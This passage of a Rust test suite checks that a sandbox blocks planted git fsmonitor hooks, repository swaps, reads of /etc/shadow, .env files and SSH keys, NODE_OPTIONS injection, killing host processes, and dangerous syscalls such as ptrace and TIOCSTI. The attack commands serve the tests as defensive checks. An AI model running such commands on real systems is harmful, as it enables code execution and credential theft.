        text(&o)
    );
    // A repository the run makes is its own, as `git init` or `cargo new` make them.
    let o = w.run("git init -q made && git -C made config user.name x && echo ok");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    // And the repository that was there still works for the run.
    let o = w.run("printf x | tee proj/file >/dev/null && git -C proj add file && echo ok");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    // Control: without the sandbox the planted settings are obeyed.
    let c = w.control(&format!("printf '{line}' | tee -a proj/.git/config"));
    assert!(status_ran(), "control: {}", text(&c));
}

#[test]
fn submodules_indexes_pointers_and_work_trees_of_repositories_found_before_the_run_are_protected() {
    let w = World::new();
    // No repository at the top: `proj` (with a submodule `x`), and `sep`,
    // whose `.git` is a file naming its git directory in `.repos`.
    for r in ["proj", "lib"] {
        git_in(&w.ws, &["init", "-q", r]);
        w.write(&format!("{r}/f"), r);
        git_in(&w.ws.join(r), &["add", "f"]);
        git_in(&w.ws.join(r), &["commit", "-qm", "init"]);
    }
    git_in(&w.ws.join("proj"), &["submodule", "-q", "add", "../lib", "x"]);
    git_in(&w.ws.join("proj"), &["commit", "-qm", "x"]);
    std::fs::create_dir(w.ws.join(".repos")).unwrap();
    let sep_dir = w.ws.join(".repos/sep.git");
    git_in(
        &w.ws,
        &[
            "init",
            "-q",
            &format!("--separate-git-dir={}", sep_dir.display()),
            "sep",
        ],
    );
    // The planted program writes down where git ran it.
    let log = w.outside.join("git-ran-the-planted-fsmonitor");
    let program = w.outside.join("fsmonitor.sh");
    std::fs::write(&program, format!("#!/bin/sh\npwd >> {}\n", log.display())).unwrap();
    std::fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let p = program.display();
    let ran_in = |dirs: &[&str]| -> Vec<String> {
        for d in dirs {
            let _ = Command::new("git")
                .args(["status", "--short"])
                .current_dir(w.ws.join(d))
                .stdin(Stdio::null())
                .output()
                .unwrap();
        }
        std::fs::read_to_string(&log)
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect()
    };
    let script = format!(
        "git config -f proj/.git/modules/x/config core.fsmonitor {p}; \
         git config -f .repos/sep.git/config core.fsmonitor {p}; \
         printf 'gitdir: ../proj/.git\\n' | tee sep/.git; \
         printf 'ref: refs/heads/master\\n' | tee proj/HEAD; \
         cd proj && git init -q sub && git -C sub config core.fsmonitor {p} && \
         git -C sub -c user.email=t@t -c user.name=t commit -q --allow-empty -m s && \
         git add sub && git -c user.email=t@t -c user.name=t commit -qm sub; echo ran"
    );
    let o = w.run(&script);
    assert!(stdout(&o).contains("ran"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    let ran = ran_in(&["proj", "proj/x", "sep", "proj/sub"]);
    assert!(
        ran.is_empty(),
        "the host's git ran what the run planted, in {ran:?}: {}",
        text(&o)
    );
    assert!(!exists(&w.ws.join("proj/HEAD")), "{}", text(&o));
    // Control: without the sandbox, git obeys each.
    let c = w.control(&script);
    let ran = ran_in(&["proj/x", "sep"]);
    assert!(ran.len() >= 2, "control: {ran:?} {}", text(&c));
}

#[test]
fn an_overlay_run_never_lands_a_control_file_of_a_repository_below_the_top() {
    // The whole workspace an overlay: what the run made is judged before it
    // lands, so a nested repository's `commondir` never exists on the host,
    // not even for the moment before the check after the run.
    let w = World::new();
    git_in(&w.ws, &["init", "-q", "proj"]);
    let script = "printf ../../elsewhere | tee proj/.git/commondir; printf x | tee notes.txt; echo ran";
    let o = w.run_policy("overlay = true\n", script);
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(text(&o).contains("proj/.git/commondir"), "{}", text(&o));
    assert!(!exists(&w.ws.join("proj/.git/commondir")), "{}", text(&o));
    assert!(
        names_containing(&w.ws.join("proj/.git"), "quarantine").is_empty(),
        "it landed first: {}",
        text(&o)
    );
    let c = w.control(script);
    assert!(exists(&w.ws.join("proj/.git/commondir")), "control: {}", text(&c));
}

#[test]
fn git_pointers_a_run_plants_neither_hide_a_repository_nor_stop_later_runs() {
    let w = World::new();
    // The person's `zeta`, with a linked worktree `alpha` (which the scan
    // lists first), and `symrepo`, whose `.git` is a symlink to a git
    // directory kept elsewhere in the workspace.
    git_in(&w.ws, &["init", "-q", "zeta"]);
    w.write("zeta/f", "f");
    git_in(&w.ws.join("zeta"), &["add", "f"]);
    git_in(&w.ws.join("zeta"), &["commit", "-qm", "init"]);
    git_in(&w.ws.join("zeta"), &["worktree", "add", "-q", "../alpha"]);
    git_in(&w.ws, &["init", "-q", "--bare", "store/proj.git"]);
    std::fs::create_dir(w.ws.join("symrepo")).unwrap();
    std::os::unix::fs::symlink("../store/proj.git", w.ws.join("symrepo/.git")).unwrap();
    // One run plants pointers (its own, which stay): into zeta's `.git`, at
    // the workspace itself, at a plain folder.
    let o = w.run(
        "mkdir .aaa .bbb .ccc && printf 'gitdir: ../zeta/.git/objects\\n' | tee .aaa/.git && \
         printf 'gitdir: ..\\n' | tee .bbb/.git && printf 'gitdir: ../alpha\\n' | tee .ccc/.git",
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    // The next still runs, and still protects every repository.
    let script = "printf '[core]\\n\\tfsmonitor = evil\\n' | tee -a zeta/.git/config store/proj.git/config; \
                  printf x | tee alpha/config >/dev/null; echo ran";
    let o = w.run(script);
    assert!(stdout(&o).contains("ran"), "{}", text(&o));
    for config in ["zeta/.git/config", "store/proj.git/config"] {
        let text_now = std::fs::read_to_string(w.ws.join(config)).unwrap();
        assert!(!text_now.contains("fsmonitor"), "{config} was written: {}", text(&o));
    }
    // A plain folder a pointer names is not a git directory.
    assert!(exists(&w.ws.join("alpha/config")), "{}", text(&o));
    let c = w.control(script);
    let text_now = std::fs::read_to_string(w.ws.join("zeta/.git/config")).unwrap();
    assert!(text_now.contains("fsmonitor"), "control: {}", text(&c));
}

#[test]
fn a_repository_found_before_the_run_cannot_be_swapped_for_one_of_the_runs_making() {
    let w = World::new();
    let sh = |dir: &std::path::Path, script: &str| {
        let o = Command::new("bash")
            .arg("-c")
            .arg(script)
            .current_dir(dir)
            .output()
            .unwrap();
        assert!(o.status.success(), "{script}: {}", text(&o));
    };
    // `proj` (a `.git` directory) and `p` (a `.git` symlink to its git
    // directory elsewhere in the workspace), both the person's.
    sh(
        &w.ws,
        "git init -q proj && git init -q --bare gitdirs/p.git && mkdir p && ln -s ../gitdirs/p.git p/.git",
    );
    // A pointer the run leaves in one run aims at `proj`'s git directory...
    let o = w.run("mkdir aaa && printf 'gitdir: ../proj/.git\\n' | tee aaa/.git");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    // ...and the next swaps the repositories for ones of its own making.
    let script = "mv proj proj.old; git init -q proj; git -C proj config core.fsmonitor evil; \
                  mkdir -p e/objects e/refs/heads && printf '[core]\\n\\tfsmonitor = evil\\n' > e/config && \
                  ln -sfn refs/heads/master e/HEAD && rm -f p/.git && ln -s ../e p/.git; echo ran";
    let o = w.run(script);
    assert!(stdout(&o).contains("ran"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(!exists(&w.ws.join("proj.old")), "{}", text(&o));
    let config = std::fs::read_to_string(w.ws.join("proj/.git/config")).unwrap();
    assert!(!config.contains("fsmonitor"), "{}", text(&o));
    assert_ne!(
        std::fs::read_link(w.ws.join("p/.git")).ok(),
        Some("../e".into()),
        "{}",
        text(&o)
    );
    let c = w.control(script);
    assert!(exists(&w.ws.join("proj.old")), "control: {}", text(&c));
    assert_eq!(
        std::fs::read_link(w.ws.join("p/.git")).ok(),
        Some("../e".into()),
        "control: {}",
        text(&c)
    );
}

#[test]
fn checkouts_the_enclosing_repository_names_in_the_workspace_are_protected() {
    // The workspace a folder of a larger repository, which has a submodule
    // there that is not initialised: git at the top of that repository
    // recurses into it, and would obey a repository the run made there.
    let w = World::new();
    let around = w.ws.parent().unwrap();
    let lib = w.outside.join("lib");
    std::fs::create_dir_all(&lib).unwrap();
    git_in(&lib, &["init", "-q"]);
    git_in(&lib, &["commit", "-q", "--allow-empty", "-m", "init"]);
    git_in(around, &["init", "-q"]);
    git_in(around, &["submodule", "-q", "add", lib.to_str().unwrap(), "ws/lib"]);
    git_in(around, &["commit", "-qm", "lib"]);
    git_in(around, &["submodule", "-q", "deinit", "-f", "ws/lib"]);
    let script = "cd lib && git init -q && git config core.fsmonitor evil; echo ran";
    let o = w.run(script);
    assert!(stdout(&o).contains("ran"), "{}", text(&o));
    assert!(!exists(&w.ws.join("lib/.git")), "{}", text(&o));
    let c = w.control(script);
    assert!(exists(&w.ws.join("lib/.git/config")), "control: {}", text(&c));
}

#[test]
fn no_repository_may_be_made_on_the_way_to_a_nested_one() {
    // git looking for the repository of `vendor/x` walks up when its `.git`
    // is broken: a repository the run made in `vendor` would be obeyed.
    let w = World::new();
    git_in(&w.ws, &["init", "-q", "vendor/x"]);
    let mark = w.outside.join("git-ran-the-planted-fsmonitor");
    let script = format!(
        "printf junk | tee vendor/x/.git/HEAD; git init -q vendor; git -C vendor config core.fsmonitor 'touch {}; false'; echo ran",
        mark.display()
    );
    let status_ran = || {
        let _ = Command::new("git")
            .args(["status"])
            .current_dir(w.ws.join("vendor/x"))
            .output()
            .unwrap();
        exists(&mark)
    };
    let o = w.run(&script);
    assert!(stdout(&o).contains("ran"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(!exists(&w.ws.join("vendor/.git")), "{}", text(&o));
    assert!(!status_ran(), "{}", text(&o));
    let c = w.control(&script);
    assert!(status_ran(), "control: {}", text(&c));
}

#[test]
fn the_persons_own_git_configuration_in_the_workspace_is_protected() {
    // A dotfiles checkout as the workspace, with git told to read its global
    // configuration there: every repository of the person's obeys it.
    let w = World::new();
    let global = w.write("gitconfig", "[user]\n\tname = t\n");
    let missing = w.ws.join("later/gitconfig");
    let script = |rel: &str| {
        format!("mkdir -p \"$(dirname {rel})\" && printf '[core]\\n\\tfsmonitor = evil\\n' | tee -a {rel}; echo ran")
    };
    for (file, existed) in [(&global, true), (&missing, false)] {
        let rel = file.strip_prefix(&w.ws).unwrap().to_str().unwrap();
        let o = w
            .command(&["run", "-c", &script(rel)])
            .env("GIT_CONFIG_GLOBAL", file)
            .output()
            .unwrap();
        assert!(stdout(&o).contains("ran"), "{}", text(&o));
        assert_eq!(o.status.code(), Some(if existed { 0 } else { 77 }), "{}", text(&o));
        let now = std::fs::read_to_string(file).unwrap_or_default();
        assert!(
            !now.contains("fsmonitor"),
            "{} was written: {}",
            file.display(),
            text(&o)
        );
    }
    let c = w.control(&script("gitconfig"));
    assert!(
        std::fs::read_to_string(&global).unwrap().contains("fsmonitor"),
        "control: {}",
        text(&c)
    );
}

#[test]
fn a_file_named_head_that_a_nested_repository_tracks_stays_writable() {
    let w = World::new();
    git_in(&w.ws, &["init", "-q", "trk"]);
    w.write("trk/HEAD", "h\n");
    let o = w.run("sed -i s/h/H/ trk/HEAD && cat trk/HEAD");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(std::fs::read_to_string(w.ws.join("trk/HEAD")).unwrap(), "H\n");
    // Where there was none, a `HEAD` at a work tree's top is refused (with a
    // broken `.git`, git would take the work tree for the git directory).
    git_in(&w.ws, &["init", "-q", "proj"]);
    let o = w.run("mkdir -p proj/objects proj/refs; printf 'ref: refs/heads/main\\n' | tee proj/HEAD; echo ran");
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(!exists(&w.ws.join("proj/HEAD")), "{}", text(&o));
    let c = w.control("printf 'ref: refs/heads/main\\n' | tee proj/HEAD");
    assert!(exists(&w.ws.join("proj/HEAD")), "control: {}", text(&c));
}

#[test]
fn a_git_configuration_tether_exec_cannot_read_refuses_a_writable_run() {
    let w = World::new();
    host_git(&w, &["init", "-q"]);
    let config = w.ws.join(".git/config");
    let mut text_before = std::fs::read_to_string(&config).unwrap();
    text_before.push_str("[include]\n\tpath = \"unclosed\n");
    std::fs::write(&config, &text_before).unwrap();
    let o = w.run("touch made && echo ran");
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(
        !stdout(&o).contains("ran") && !exists(&w.ws.join("made")),
        "{}",
        text(&o)
    );
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains(&format!("{}:", config.display())) && err.contains("not closed"),
        "{}",
        text(&o)
    );
    // A read-only run cannot change what git includes: it runs.
    let o = w.run_policy("profile = \"read-only\"\n", "echo ran");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
}

#[test]
fn writes_outside_writable_globs_do_not_land() {
    let w = World::new();
    std::fs::create_dir_all(w.ws.join("docs")).unwrap();
    w.write("src/main.rs", "fn main() {}");
    // Programs, not redirects: the kernel must stop them, not the gate.
    let script = "cp src/main.rs docs/copy.rs; cp src/main.rs src/evil.rs; touch root.txt; \
                  cp docs/copy.rs docs/moved.rs && mv docs/moved.rs src/moved.rs; \
                  ln -s ../src docs/link; cp src/main.rs docs/link/via-link.rs; echo end";
    let o = w.run_policy("writable_globs = [\"docs/**\"]", script);
    assert!(
        exists(&w.ws.join("docs/copy.rs")),
        "the allowed write landed: {}",
        text(&o)
    );
    for p in ["src/evil.rs", "root.txt", "src/moved.rs", "src/via-link.rs"] {
        assert!(
            !exists(&w.ws.join(p)),
            "{p} landed outside writable_globs: {}",
            text(&o)
        );
    }
    let c = w.control(script);
    assert!(
        exists(&w.ws.join("src/evil.rs")) && exists(&w.ws.join("root.txt")),
        "control: {}",
        text(&c)
    );
}

#[test]
fn writable_trees_intersect_across_layers() {
    let w = World::new();
    std::fs::create_dir_all(w.ws.join("docs/api")).unwrap();
    std::fs::create_dir_all(w.ws.join("src")).unwrap();
    let parent = w.policy("writable_globs = [\"docs/**\", \"src/**\"]");
    let child = w.policy("writable_globs = [\"docs/api/**\"]");
    let o = w.run_with(
        &[
            "--policy",
            parent.to_str().unwrap(),
            "--policy",
            child.to_str().unwrap(),
        ],
        "touch docs/api/ok.md docs/no.md src/no.rs; echo end",
    );
    assert!(exists(&w.ws.join("docs/api/ok.md")), "{}", text(&o));
    assert!(
        !exists(&w.ws.join("docs/no.md")) && !exists(&w.ws.join("src/no.rs")),
        "the child widened: {}",
        text(&o)
    );
}

#[test]
fn a_symlinked_writable_tree_grants_nothing_outside() {
    let w = World::new();
    std::os::unix::fs::symlink(&w.outside, w.ws.join("docs")).unwrap();
    let m = w.outside.join("via-tree");
    let script = "cp /etc/hostname docs/via-tree";
    let o = w.run_policy("writable_globs = [\"docs/**\"]", script);
    assert!(!exists(&m), "a write grant followed the symlink out: {}", text(&o));
    w.control(script);
    assert!(exists(&m), "control");
}

#[test]
fn globs_that_are_not_trees_are_enforced_by_the_overlay() {
    let w = World::new();
    w.write("docs/a.md", "x");
    let script = "cp docs/a.md docs/b.md; touch ran.txt";
    let o = w.run_policy("writable_globs = [\"**/*.md\"]", script);
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(
        !exists(&w.ws.join("ran.txt")) && !exists(&w.ws.join("docs/b.md")),
        "a write outside the globs landed: {}",
        text(&o)
    );
    w.control(script);
    assert!(exists(&w.ws.join("ran.txt")), "control");
}

#[test]
fn the_policy_file_in_the_workspace_is_read_only() {
    let w = World::new();
    let p = w.write("tether-policy.toml", "version = 1\n");
    let o = w.run_with(
        &["--policy", p.to_str().unwrap()],
        "echo 'network = true' >> tether-policy.toml; rm -f tether-policy.toml",
    );
    assert_eq!(std::fs::read_to_string(&p).unwrap(), "version = 1\n", "{}", text(&o));
}

#[test]
fn secrets_are_invisible() {
    let w = World::new();
    w.write(".env", "API_TOKEN=sekrit-env");
    w.write("deep/dir/.env.local", "sekrit-local");
    w.write("certs/server.key", "sekrit-key");
    w.write("keys/id_ed25519", "sekrit-ssh");
    w.write(".env.example", "TEMPLATE=ok");
    std::fs::write(w.outside.join("credentials"), "sekrit-outside").unwrap();
    std::fs::write(w.state.join("approver.key"), "sekrit-state").unwrap();
    let script = format!(
        "cat .env deep/dir/.env.local certs/server.key keys/id_ed25519 .env.example {}/credentials {}/approver.key 2>&1; ls {} 2>&1",
        w.outside.display(),
        w.state.display(),
        w.state.display()
    );
    let o = w.run(&script);
    let out = text(&o);
    assert!(!out.contains("sekrit"), "a secret leaked: {out}");
    assert!(out.contains("TEMPLATE=ok"), "templates stay readable: {out}");
    let c = text(&w.control(&script));
    assert!(
        c.contains("sekrit-env") && c.contains("sekrit-outside") && c.contains("sekrit-state"),
        "control: {c}"
    );
}

/// The secret scan reuses what it read of directories unchanged since an
/// earlier scan (`workspace::listing`). Against a cache that knows every
/// directory: a secret made on the host right after, in directories the
/// cache lists, is still hidden; a `.env` the next run makes in one still
/// does not stay.
#[test]
fn secrets_made_after_a_cached_scan_are_still_found() {
    let w = World::new();
    w.write("appdir-q7/main.py", "print(1)\n");
    w.write("appdir-q7/deepdir-q7/notes.txt", "notes\n");
    w.write("libdir-q7/util.py", "pass\n");
    // A directory changed within the last second is never cached (its ctime
    // could still tick over): let them age, then a run caches them.
    std::thread::sleep(std::time::Duration::from_millis(1300));
    let o = w.run("true");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let cached: Vec<_> = std::fs::read_dir(w.state.join("scan"))
        .map(|rd| rd.flatten().map(|e| std::fs::read(e.path()).unwrap()).collect())
        .unwrap_or_default();
    let knows = |rel: &str| cached.iter().any(|c| c.windows(rel.len()).any(|x| x == rel.as_bytes()));
    if !(knows("appdir-q7/deepdir-q7") && knows("libdir-q7")) {
        // Only local filesystems are cached (see `workspace::listing`).
        let fs = Command::new("stat")
            .args(["-f", "-c", "%T"])
            .arg(&w.ws)
            .output()
            .unwrap();
        let fs = stdout(&fs);
        assert!(
            !["ext2/ext3", "xfs", "tmpfs"].contains(&fs.trim()),
            "a {fs} workspace, yet its directories were not cached"
        );
        eprintln!("the test directory is on {fs}: nothing is cached there");
        return;
    }
    w.write("appdir-q7/.env", "API_TOKEN=sekrit-env");
    w.write("appdir-q7/deepdir-q7/id_ed25519", "sekrit-ssh");
    let script = "cat appdir-q7/.env appdir-q7/deepdir-q7/id_ed25519 2>&1; echo END";
    let o = w.run(script);
    assert!(stdout(&o).contains("END"), "{}", text(&o));
    assert!(
        !text(&o).contains("sekrit"),
        "a secret leaked past the cache: {}",
        text(&o)
    );
    let c = text(&w.control(script));
    assert!(c.contains("sekrit-env") && c.contains("sekrit-ssh"), "control: {c}");
    // `libdir-q7` is still cached as it was; the run's `.env` there changes it.
    let o =
        w.run("python3 -c \"open('libdir-q7/.env', 'w').write('NODE_OPTIONS=--require /tmp/evil.js')\"; echo WROTE");
    assert!(stdout(&o).contains("WROTE"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(
        !exists(&w.ws.join("libdir-q7/.env")),
        "the run's .env stayed: {}",
        text(&o)
    );
}

/// A `.env` whose name is not UTF-8 is a secret like any other: hidden
/// during the run, and one the run makes does not stay. Such a name used to
/// stop every writable run (exit 125): the check a run owes could not be
/// written down.
#[test]
fn env_files_named_in_bytes_that_are_not_utf8_are_still_protected() {
    use std::os::unix::ffi::OsStrExt;
    let w = World::new();
    let odd = w.ws.join(std::ffi::OsStr::from_bytes(b".env\xff"));
    std::fs::write(&odd, "API_TOKEN=sekrit-bytes").unwrap();
    let script = "cat .env* 2>&1; echo END";
    let o = w.run(script);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(stdout(&o).contains("END"), "{}", text(&o));
    assert!(!text(&o).contains("sekrit"), "a secret leaked: {}", text(&o));
    assert!(text(&w.control(script)).contains("sekrit-bytes"), "control");
    // One the run makes, with a name of the same kind, is moved aside.
    let o = w.run("python3 -c \"open(b'.env\\xfe', 'w').write('NODE_OPTIONS=x')\"; echo WROTE");
    assert!(stdout(&o).contains("WROTE"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(
        !exists(&w.ws.join(std::ffi::OsStr::from_bytes(b".env\xfe"))),
        "{}",
        text(&o)
    );
}

#[test]
fn the_workspace_is_writable_and_home_is_the_workspace() {
    let w = World::new();
    let o = w.run("echo ok > made.txt && echo $HOME && pwd");
    assert_eq!(std::fs::read_to_string(w.ws.join("made.txt")).unwrap(), "ok\n");
    assert!(stdout(&o).contains(&w.ws.display().to_string()), "{}", text(&o));
}

// ---------------------------------------------------------- processes, kernel

/// The (ctime seconds, nanoseconds) of a host path: any change of its mode,
/// owner or times moves it.
fn ctime(p: &str) -> (i64, i64) {
    use std::os::unix::fs::MetadataExt;
    let m = std::fs::metadata(p).unwrap();
    (m.ctime(), m.ctime_nsec())
}

/// The minimal /dev binds the host's own device nodes. Launched as root, the
/// command's uid is root's on the host's files when the workspace is root's
/// (README, "Limits"), so it owns them: `chmod 000 /dev/null` would break the
/// host. Their mounts are read-only: the devices stay usable, their mode,
/// owner and times cannot change. The attack sets the mode it already has
/// (harmless if it succeeds, yet it moves the ctime, as `touch` does).
#[test]
fn the_hosts_device_nodes_cannot_be_changed() {
    use std::os::unix::fs::PermissionsExt;
    let w = World::new();
    let mode = std::fs::metadata("/dev/full").unwrap().permissions().mode() & 0o7777;
    let before = ctime("/dev/full");
    let o = w.run(&format!(
        "chmod {mode:o} /dev/full; touch /dev/full; echo written > /dev/null && head -c 3 /dev/zero | wc -c"
    ));
    assert_eq!(stdout(&o).trim(), "3", "the devices stay usable: {}", text(&o));
    assert_eq!(ctime("/dev/full"), before, "the host's /dev/full changed: {}", text(&o));
    if is_root() {
        // Control: its owner changes a node like it (a private one, so that
        // the host's stay as they are).
        let node = w.outside.join("full");
        let c = w.control(&format!(
            "mknod {0} c 1 7 && chmod {mode:o} {0} && touch {0}",
            node.display()
        ));
        assert!(c.status.success(), "control: {}", text(&c));
    }
}

/// As root, with a workspace root owns, the command's files map to host
/// root (README, "Limits"): what only root may read on the host is hidden,
/// the shadow passwords and the private keys of the system among them.
/// Judged from the host: the copies the command makes in the workspace hold
/// none of it; the control copies them.
#[test]
fn the_systems_secrets_are_not_read_from_inside() {
    let w = World::new();
    let mut secrets = vec![std::path::PathBuf::from("/etc/shadow")];
    secrets.extend(
        std::fs::read_dir("/etc/ssl/private")
            .into_iter()
            .flatten()
            .flatten()
            .map(|e| e.path())
            .filter(|p| p.is_file()),
    );
    for (i, secret) in secrets.iter().enumerate() {
        let steal = format!("cat {} > stolen{i}; echo ran", secret.display());
        let o = w.run(&steal);
        assert_eq!(stdout(&o), "ran\n", "{}", text(&o));
        let stolen = std::fs::read(w.ws.join(format!("stolen{i}"))).unwrap_or_default();
        assert!(
            stolen.is_empty(),
            "{} was read from inside: {}",
            secret.display(),
            text(&o)
        );
        // Control: root copies it on the host (others cannot read it at all).
        if is_root() {
            let c = w.control(&steal);
            assert_eq!(
                std::fs::read(w.ws.join(format!("stolen{i}"))).unwrap(),
                std::fs::read(secret).unwrap(),
                "control: {}",
                text(&c)
            );
        }
    }
}

/// As the host's root, the command owns the kernel's global settings in
/// `/proc/sys` (their modes are most of what guards them; `core_pattern`
/// names a program the host runs as root). Both Landlock and a read-only
/// mount refuse the write; the mount is seen by its error (EROFS, where
/// Landlock's is EACCES). The setting tried is a harmless one
/// (`printk_ratelimit`); the control writes the value it has.
#[test]
fn the_kernels_global_settings_cannot_be_written() {
    let w = World::new();
    let setting = "/proc/sys/kernel/printk_ratelimit";
    let value: u64 = std::fs::read_to_string(setting).unwrap().trim().parse().unwrap();
    let set = |v: u64| {
        format!(
            "python3 -c \"\ntry:\n    open('{setting}', 'w').write('{v}')\n    print('written')\nexcept OSError as e:\n    print(e.strerror)\n\""
        )
    };
    let o = w.run(&set(value + 1));
    let now: u64 = std::fs::read_to_string(setting).unwrap().trim().parse().unwrap();
    if now != value {
        std::fs::write(setting, value.to_string()).unwrap();
    }
    assert_eq!(now, value, "the host's setting changed: {}", text(&o));
    if is_root() {
        assert_eq!(stdout(&o).trim(), "Read-only file system", "{}", text(&o));
        let c = w.control(&set(value));
        assert_eq!(stdout(&c).trim(), "written", "control: {}", text(&c));
    } else {
        assert!(
            stdout(&o).contains("denied") || stdout(&o).contains("Read-only"),
            "{}",
            text(&o)
        );
    }
}

fn spawn_sleeper() -> std::process::Child {
    Command::new("sleep").arg("300").stdin(Stdio::null()).spawn().unwrap()
}

fn alive(pid: u32) -> bool {
    // Not a zombie and still there.
    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
        Ok(s) => !s.contains(") Z "),
        Err(_) => false,
    }
}

#[test]
fn host_processes_are_invisible_and_unkillable() {
    let w = World::new();
    let mut victim = spawn_sleeper();
    let pid = victim.id();
    let o = w.run(&format!(
        "kill -9 {pid}; ls /proc/{pid}/environ; cat /proc/{pid}/environ; ps -e | wc -l"
    ));
    std::thread::sleep(Duration::from_millis(100));
    assert!(alive(pid), "host process killed from the sandbox: {}", text(&o));
    assert!(!text(&o).contains("PATH="), "host environ read: {}", text(&o));
    w.control(&format!("kill -9 {pid}"));
    let _ = victim.wait();
    assert!(!alive(pid), "control could not kill");
}

/// A probe calling dangerous system calls; prints `name=errno` per call. Seccomp
/// refuses before the kernel looks at arguments, so every call is given
/// arguments that are inert outside the sandbox (a pid that does not exist,
/// invalid flags, a mount target that does not exist): the control run, which
/// may be root, changes nothing on the host.
const SYSCALL_PROBE: &str = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(name, nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    e = ctypes.get_errno() if r < 0 else 0
    print(f"{name}={e}")
    sys.stdout.flush()
KEEP = []  # buffers must outlive the calls that receive their addresses
def s(b):
    KEEP.append(ctypes.create_string_buffer(b))
    return ctypes.addressof(KEEP[-1])
NOPID = 4194303 + 7
buf = ctypes.create_string_buffer(64)
call("ptrace", 101, 16, NOPID, 0, 0)                   # PTRACE_ATTACH to no one
call("process_vm_readv", 310, NOPID, 0, 0, 0, 0, 0)
call("keyctl", 250, 0, -3, 0, 0)                        # read the user keyring id
call("add_key", 248, s(b"user"), s(b"k"), 0, 0, -1000)  # into a keyring that does not exist
call("bpf", 321, 0, 0, 0)
call("perf_event_open", 298, 0, 0, -1, -1, 0)
call("userfaultfd", 323, 0)
call("io_uring_setup", 425, 1, s(bytes(120)))
call("kexec_load", 246, 0, 0, 0, 0xffffffff)            # invalid flags
call("open_by_handle_at", 304, -100, ctypes.addressof(buf), 0)
call("mount", 165, 0, s(b"/nonexistent-tether-probe"), s(b"tmpfs"), 0, 0)
call("umount2", 166, s(b"/nonexistent-tether-probe"), 2)
call("pivot_root", 155, 0, 0)
call("fsopen", 430, s(b"tmpfs"), 0)
call("open_tree", 428, -100, s(b"/nonexistent-tether-probe"), 1)
call("setns", 308, 0, 0)
call("unshare_user", 272, 0x10000000 | 0x00000200)      # NEWUSER|FS: invalid together
call("unshare_mount", 272, 0x00020000 | 0x10000000 | 0x00000200)
call("clone_newuser", 56, 0x10000000 | 0x00000200 | 17, 0, 0, 0, 0)
call("personality", 135, 0x0040000)                     # ADDR_NO_RANDOMIZE, this process only
call("tiocsti", 16, 0, 0x5412, s(b"x"))                 # stdin is /dev/null: ENOTTY outside
call("tiocsti_high_bits", 16, 0, 0xffffffff00005412 - (1 << 64), s(b"x"))
call("tioclinux", 16, 0, 0x541C, ctypes.addressof(buf))
call("x32_getpid", 0x40000000 | 39)
"#;

#[test]
fn dangerous_system_calls_are_refused() {
    let w = World::new();
    std::fs::write(w.ws.join("probe.py"), SYSCALL_PROBE).unwrap();
    let o = w.run(&format!("{PY} probe.py"));
    let out = stdout(&o);
    let errno = |name: &str| -> i32 {
        out.lines()
            .find_map(|l| l.strip_prefix(&format!("{name}=")))
            .unwrap_or_else(|| panic!("{name} missing from probe output:\n{}", text(&o)))
            .parse()
            .unwrap()
    };
    for name in [
        "ptrace",
        "process_vm_readv",
        "keyctl",
        "add_key",
        "bpf",
        "perf_event_open",
        "userfaultfd",
        "io_uring_setup",
        "kexec_load",
        "open_by_handle_at",
        "mount",
        "umount2",
        "pivot_root",
        "fsopen",
        "open_tree",
        "setns",
        "unshare_user",
        "unshare_mount",
        "clone_newuser",
        "personality",
        "tiocsti",
        "tiocsti_high_bits",
        "tioclinux",
        "x32_getpid",
    ] {
        assert_eq!(errno(name), 1, "{name} was not refused with EPERM:\n{out}");
    }
    // Control: outside the sandbox the same calls are not all refused with EPERM.
    let c = w.control(&format!("{PY} probe.py"));
    let cout = stdout(&c);
    let not_eperm = [
        "keyctl",
        "unshare_user",
        "personality",
        "tiocsti",
        "ptrace",
        "process_vm_readv",
        "kexec_load",
        "x32_getpid",
    ]
    .iter()
    .filter(|n| {
        cout.lines()
            .any(|l| l.starts_with(&format!("{n}=")) && !l.ends_with("=1"))
    })
    .count();
    assert!(
        not_eperm >= 5,
        "control shows the calls work outside: {cout}\n{}",
        String::from_utf8_lossy(&c.stderr)
    );
}

/// Runs `argv` with its stdin a new terminal whose controlling process it
/// is (as a shell's child in a terminal is), then prints what waits in that
/// terminal's input: what a command pushed there with TIOCSTI, the parent
/// shell would read and run as typed.
const TTY_HARNESS: &str = r#"
import fcntl, os, pty, subprocess, sys, termios, tty
m, s = pty.openpty()
tty.setraw(s)
def own_terminal():
    os.setsid()
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)
r = subprocess.run(sys.argv[1:], stdin=s, preexec_fn=own_terminal, capture_output=True)
os.set_blocking(s, False)
try:
    waiting = os.read(s, 1024)
except BlockingIOError:
    waiting = b""
print(repr(waiting))
sys.stderr.write(r.stdout.decode() + r.stderr.decode())
"#;

/// TIOCSTI pushes bytes into a terminal's input as if typed: a command that
/// shares the harness's terminal could have the shell that started it run
/// anything once it exits. Two things stop it: the command's session of its
